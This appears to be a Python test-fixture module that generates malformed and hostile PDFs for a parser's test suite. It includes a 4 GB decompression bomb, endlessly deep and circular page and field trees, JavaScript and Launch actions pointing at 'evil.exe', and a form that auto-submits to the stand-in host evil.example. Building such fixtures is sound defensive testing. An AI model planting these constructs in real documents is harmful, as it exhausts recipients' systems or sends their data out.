"""Files that nobody should trust, made when a test asks for them."""

import zlib
from io import BytesIO

from pypdf import PdfReader, PdfWriter

from tests.documents.pdf.corpus.making import A4, Paper, string
from tests.documents.pdf.corpus.papers import four_pages, several_places
from tests.documents.pdf.corpus.texts import HELV, inherited


def renamed() -> bytes:
    return b"\xff\xd8\xff\xe0" + b"a photo, whatever its name says" * 100


def nothing() -> bytes:
    return b""


def blank() -> bytes:
    return b"\0\n" * 500


def header_only() -> bytes:
    return b"%PDF-1.7\n" + b"and then nothing that would be of use\n" * 50


def cut_short() -> bytes:
    whole = four_pages()
    return whole[: len(whole) // 20]


def user_password() -> bytes:
    writer = PdfWriter(clone_from=PdfReader(BytesIO(several_places())))
    writer.encrypt("secret", "owner", algorithm="AES-256")
    kept = BytesIO()
    writer.write(kept)
    return kept.getvalue()


def dynamic_xfa() -> bytes:
    paper = Paper()
    paper.page().say(60, 700, "Please wait... If this message is not eventually replaced, get another program.")
    packet = paper.stream("<xdp:xdp/>")
    return paper.finish(f"/Fields[]/XFA {packet}", "/NeedsRendering true")


def thousands_of_pages() -> bytes:
    paper = Paper()
    for _number in range(2000):
        paper.page()
    return paper.finish()


def tiny_pages() -> bytes:
    paper = Paper()
    paper.page((3, 3))
    return paper.finish()


def vast_pages() -> bytes:
    paper = Paper()
    paper.page((10, 10), "/MediaBox[0 0 200000 200000]")
    return paper.finish()


def names_that_nothing_holds() -> bytes:
    paper = Paper()
    page = paper.page()
    paper.widget(page, (60, 60, 160, 80), f"/FT/Tx/T(a\\000b){HELV}")
    return paper.finish()


def too_many_fields() -> bytes:
    paper = Paper()
    page = paper.page()
    for number in range(1100):
        paper.widget(page, (60, 60, 160, 80), f"/FT/Tx/T(f{number}){HELV}")
    return paper.finish()


def deep_fields() -> bytes:
    paper = Paper()
    page = paper.page()
    below = paper.widget(page, (60, 60, 160, 80), f"/FT/Tx/T(x){HELV}", is_field=False)
    for _level in range(2000):
        below = paper.parent("/T(x)", [below], is_field=False)
    paper.fields.append(below)
    return paper.finish()


def circle_of_fields() -> bytes:
    """Not deep, but without an end."""
    paper = Paper()
    page = paper.page()
    one, other = paper.reserve(), paper.reserve()
    kid = paper.widget(page, (60, 60, 160, 80), f"/FT/Tx/T(x){HELV}/Parent {one}", is_field=False)
    paper.put(one, f"<</T(one)/Kids[{other} {kid}]/Parent {other}>>")
    paper.put(other, f"<</T(other)/Kids[{one}]/Parent {one}>>")
    paper.fields.append(one)
    return paper.finish()


def deep_pages() -> bytes:
    paper = Paper()
    paper.page()
    paper.finish()
    below = f"{len(paper.objects)} 0 R"
    for _level in range(20_000):
        below = paper.add(f"<</Type/Pages/Count 1/Kids[{below}]>>")
    paper.put(paper.tree, f"<</Type/Pages/Count 1/Kids[{below}]>>")
    return paper.written()


def circle_of_pages() -> bytes:
    paper = Paper()
    paper.page()
    paper.finish()
    paper.put(paper.tree, f"<</Type/Pages/Count 3/Kids[{paper.tree} {paper.tree} {paper.tree}]>>")
    return paper.written()


def bomb() -> bytes:
    """A few kilobytes that unfold to four gigabytes of drawing."""
    paper = Paper()
    page = paper.page()
    once = _zeros(4 << 30)
    twice = zlib.compress(once, 9)
    content = paper.stream(twice, "/Filter[/FlateDecode/FlateDecode]")
    page.more = f"/Contents {content}"
    paper.widget(page, (60, 60, 160, 80), f"/FT/Tx/T(f1){HELV}")
    return paper.finish()


def _zeros(size: int) -> bytes:
    packer, out, chunk = zlib.compressobj(9), bytearray(), b"q " * (1 << 19)
    for _part in range(size // len(chunk)):
        out += packer.compress(chunk)
    return bytes(out + packer.flush())


def vast_picture() -> bytes:
    paper = Paper()
    page = paper.page()
    packed = _zeros(64 << 20)
    image = paper.stream(
        packed,
        "/Type/XObject/Subtype/Image/Width 60000/Height 60000/ColorSpace/DeviceRGB/BitsPerComponent 8"
        "/Filter/FlateDecode",
    )
    page.more = f"/Resources<</XObject<</Im {image}>>>>"
    page.drawn.append("595 0 0 842 0 0 cm /Im Do")
    return paper.finish()


def scripted() -> bytes:
    """A script on opening, one in a field, one that starts a program, a file inside, a film."""
    paper = Paper()
    page = paper.page(A4, "/AA<</O<</S/JavaScript/JS(app.alert\\(1\\))>>>>")
    embedded = paper.stream(b"MZ evil", "/Type/EmbeddedFile")
    there = paper.add(f"<</Type/Filespec/F(evil.exe)/EF<</F {embedded}>>>>")
    script = f"<</S/JavaScript/JS{string('app.launchURL(evil)')}>>"
    paper.widget(page, (60, 700, 260, 718), f"/FT/Tx/T(name){HELV}/AA<</K {script}>>")
    page.annotations.append(paper.add("<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/Launch/F(evil.exe)>>>>"))
    page.annotations.append(paper.add(f"<</Type/Annot/Subtype/FileAttachment/Rect[0 0 9 9]/FS {there}>>"))
    page.annotations.append(paper.add("<</Type/Annot/Subtype/Screen/Rect[0 0 9 9]>>"))
    names = f"/Names<</JavaScript<</Names[(a){script}]>>/EmbeddedFiles<</Names[(evil.exe){there}]>>>>"
    return paper.finish("", f"/OpenAction {script}{names}")


def sends() -> bytes:
    paper = Paper()
    page = paper.page()
    submit = "/A<</S/SubmitForm/F<</FS/URL/F(http://evil.example)>>>>"
    paper.widget(page, (60, 700, 160, 718), f"/FT/Btn/Ff 65536/T(send){submit}")
    paper.widget(page, (60, 600, 160, 618), f"/FT/Tx/T(name){HELV}")
    return paper.finish("", "/OpenAction<</S/URI/URI(http://evil.example)>>")


def signed() -> bytes:
    paper = Paper()
    page = paper.page()
    paper.widget(page, (60, 700, 260, 718), f"/FT/Tx/T(name){HELV}")
    paper.widget(page, (60, 600, 260, 650), "/FT/Sig/T(seal)/V<</Type/Sig/ByteRange[0 10 20 10]/Contents<00>>>")
    return paper.finish("/SigFlags 3")


def without_a_table() -> bytes:
    """Where objects are is said wrongly, and the end is missing: that can be repaired."""
    whole = inherited()
    table, trailer = whole.rindex(b"xref\n0"), whole.rindex(b"trailer")
    return whole[:table] + whole[trailer : whole.rindex(b"startxref")]


def noise() -> bytes:
    """Every fiftieth byte of a good file is another."""
    made = bytearray(four_pages())
    for at in range(200, len(made), 50):
        made[at] ^= 0x55
    return bytes(made)
